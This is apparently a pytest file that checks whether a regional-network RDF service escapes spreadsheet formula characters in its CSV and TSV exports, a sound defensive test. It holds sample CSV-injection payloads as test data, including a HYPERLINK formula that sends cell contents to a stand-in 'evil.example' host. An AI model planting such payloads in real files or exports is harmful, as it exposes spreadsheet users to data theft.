"""CSV formula injection (issue 12, point 8): every CSV and TSV the service and the command line write keeps
a label a spreadsheet would evaluate (``=``, ``+``, ``-``, ``@``, tab, CR at the start) as text, with a
leading ``'``; numbers stay numbers.

Organisations with hostile labels (and one harmless), each cooperating with the WFBB, are added to a copy of the built
store as a contribution; each CSV surface is then read back and checked cell by cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
import rdflib
from fastapi.testclient import TestClient
from smartregion.cli import main as cli
from smartregion.contribute import spreadsheets as spreadsheet
from smartregion.contribute.contributions import add_graph
from smartregion.contribute.model import Provenance
from smartregion.rdf import csvsafe
from smartregion.settings import Settings
from smartregion.store import EmbeddedStore
from smartregion.web.app import create_app

ID = "https://w3id.org/smartregion/id/"
WFBB = ID + "organisation/wfbb"
# label -> what a spreadsheet-safe cell holds
HOSTILE = {
    '=HYPERLINK("https://evil.example/?d="&A1,"Klick")': '\'=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
    "+1": "'+1",
    "-x": "'-x",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "Harmlos - mit Strich": "Harmlos - mit Strich",
}
SLUGS = {label: f"csv-test-{n}" for n, label in enumerate(HOSTILE)}


def _contribution() -> rdflib.Graph:
    turtle = ["@prefix sr: <https://w3id.org/smartregion/ontology#> . @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> ."]
    for label, slug in SLUGS.items():
        literal = rdflib.Literal(label, lang="de").n3()
        turtle.append(
            f"<{ID}organisation/{slug}> a sr:Association ; rdfs:label {literal} .\n"
            f"<{ID}cooperation/{slug}> a sr:Cooperation ; rdfs:label \"Kooperation {slug}\"@de ;\n"
            f"  sr:partner <{ID}organisation/{slug}>, <{WFBB}> ;\n"
            f"  sr:cooperationKind <{ID}cooperation-kind/strategic-cooperation> ."
        )
    return rdflib.Graph().parse(data="\n".join(turtle), format="turtle")


@pytest.fixture(scope="module")
def store(module_store: EmbeddedStore) -> EmbeddedStore:
    add_graph(module_store, _contribution(), Provenance("CSV-Test", "hostile.ttl", "api"))
    return module_store


@pytest.fixture(scope="module")
def client(store: EmbeddedStore, project_root: Path) -> Iterator[TestClient]:
    with TestClient(create_app(Settings(home=project_root, store_path=store.path, query_workers=1))) as test_client:
        yield test_client


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _check_labels(cells: dict[str, str]) -> None:
    """``cells``: the cell written for each test organisation's IRI; each must be its label made safe."""
    assert {iri: cells.get(iri) for iri in _iris()} == {ID + f"organisation/{SLUGS[label]}": safe for label, safe in HOSTILE.items()}


def _iris() -> list[str]:
    return [ID + f"organisation/{slug}" for slug in SLUGS.values()]


def test_the_network_export_csv(client: TestClient, store: EmbeddedStore, capsys: pytest.CaptureFixture[str]) -> None:
    response = client.get("/api/network", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert cli.main(["export", "--format", "csv", "-o", "-", "--store", str(store.path)]) == 0
    exported = capsys.readouterr().out
    assert exported == response.text  # the command line writes the same file
    header, *rows = _rows(response.text)
    assert header == ["source", "target", "source_label", "target_label", "source_type", "target_type", "weight", "kinds",
                      "evidence_count"]
    cells = {}
    for row in rows:
        record = dict(zip(header, row, strict=True))
        for end in ("source", "target"):
            cells[record[end]] = record[f"{end}_label"]
        # Numbers are written as numbers, never with a '.
        assert float(record["weight"]) > 0 and int(record["evidence_count"]) > 0
        assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for cell in row), row
    _check_labels(cells)


def test_the_catalogue_csv(client: TestClient) -> None:
    response = client.get("/api/queries/partners_of_actor", params={"actor": WFBB, "format": "csv"})
    assert response.status_code == 200, response.text
    header, *rows = _rows(response.text)
    cells = {row[header.index("partner")]: row[header.index("partnerLabel")] for row in rows}
    _check_labels(cells)
    # The JSON answer is data, not a spreadsheet: the labels as they are.
    as_json = client.get("/api/queries/partners_of_actor", params={"actor": WFBB}).json()
    labels = {row["partner"]: row["partnerLabel"] for row in as_json["rows"]}
    assert {labels[iri] for iri in _iris()} == set(HOSTILE)


LABELS = f"""SELECT ?org ?label (-5 AS ?minus) (+1.5 AS ?plus) ("-5" AS ?text) WHERE {{
  ?org <http://www.w3.org/2000/01/rdf-schema#label> ?label FILTER(STRSTARTS(STR(?org), "{ID}organisation/csv-test-")) }}"""


def _check_sparql_csv(text: str) -> None:
    header, *rows = _rows(text)
    assert header == ["org", "label", "minus", "plus", "text"]
    _check_labels({row[0]: row[1] for row in rows})
    # A number of a numeric datatype is a number in a spreadsheet, not a formula: it stays. The string "-5" does not.
    assert {tuple(row[2:]) for row in rows} == {("-5", "1.5", "'-5")}


def _check_sparql_tsv(text: str) -> None:
    header, *lines = text.rstrip("\n").split("\n")
    assert header.split("\t") == ["?org", "?label", "?minus", "?plus", "?text"]
    cells = {}
    for line in lines:
        org, label, minus, plus, as_text = line.split("\t")
        cells[org.strip("<>")] = rdflib.util.from_n3(label).value
        assert (minus, plus, as_text) == ('"-5"^^<http://www.w3.org/2001/XMLSchema#integer>',
                                          '"1.5"^^<http://www.w3.org/2001/XMLSchema#decimal>', "\"'-5\"")
        assert label.endswith('"@de') and not label[1:].startswith(csvsafe.FORMULA_STARTS)
    _check_labels(cells)


def test_the_sparql_endpoint_csv_and_tsv(client: TestClient) -> None:
    as_csv = client.get("/sparql", params={"query": LABELS}, headers={"Accept": "text/csv"})
    assert as_csv.status_code == 200 and as_csv.headers["content-type"] == "text/csv; charset=utf-8"
    _check_sparql_csv(as_csv.text)
    as_tsv = client.get("/sparql", params={"query": LABELS, "format": "tsv"})
    assert as_tsv.status_code == 200 and as_tsv.headers["content-type"] == "text/tab-separated-values; charset=utf-8"
    _check_sparql_tsv(as_tsv.text)


def test_the_query_command(store: EmbeddedStore, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["query", LABELS, "--format", "csv", "--store", str(store.path)]) == 0
    _check_sparql_csv(capsys.readouterr().out)
    assert cli.main(["query", LABELS, "--format", "tsv", "--store", str(store.path)]) == 0
    _check_sparql_tsv(capsys.readouterr().out)
    # JSON stays what the engine wrote.
    assert cli.main(["query", LABELS, "--format", "json", "--store", str(store.path)]) == 0
    assert '"value":"=HYPERLINK(' in capsys.readouterr().out.replace(" ", "")


def test_the_templates_hold_nothing_a_spreadsheet_would_evaluate() -> None:
    # They are written from the code's own examples, not from the store: checked here so that an example never starts a formula.
    for name in ("organisations", "persons", "events", "cooperations", "memberships", "projects"):
        for lang in ("en", "de"):
            for row in spreadsheet.template_rows(spreadsheet.get_kind(name), lang):
                assert [csvsafe.cell(value) for value in row] == row, (name, lang, row)


@pytest.mark.parametrize(
    ("value", "datatype", "cell"),
    [
        ("=1+1", None, "'=1+1"),
        ("-5", None, "'-5"),
        ("-5", "http://www.w3.org/2001/XMLSchema#integer", "-5"),
        ("+1.5e3", "http://www.w3.org/2001/XMLSchema#double", "+1.5e3"),
        ("-INF", "http://www.w3.org/2001/XMLSchema#double", "'-INF"),
        ("-5=cmd", "http://www.w3.org/2001/XMLSchema#integer", "'-5=cmd"),  # ill-typed: not a number
        ("Straße 1 = Ort", None, "Straße 1 = Ort"),
        ("", None, ""),
    ],
)
def test_cell(value: str, datatype: str | None, cell: str) -> None:
    assert csvsafe.cell(value, datatype) == cell
